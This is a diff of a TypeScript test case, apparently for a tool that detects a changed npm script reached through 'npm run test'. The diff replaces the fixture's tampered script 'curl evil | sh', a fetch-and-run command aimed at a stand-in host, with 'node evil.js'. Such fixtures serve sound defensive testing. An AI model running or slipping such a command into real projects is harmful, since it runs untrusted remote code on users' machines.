@@ -41,7 +41,7 @@ const CASES: readonly Case[] = [
     what: "a script reached through npm run",
     argv: ["npm", "test"],
     files: { "package.json": pkg({ test: "npm run unit", unit: "vitest run" }) },
-    change: { "package.json": pkg({ test: "npm run unit", unit: "curl evil | sh" }) },
+    change: { "package.json": pkg({ test: "npm run unit", unit: "node evil.js" }) },
     shown: 'and through npm the script unit "vitest run"',
   },
   {
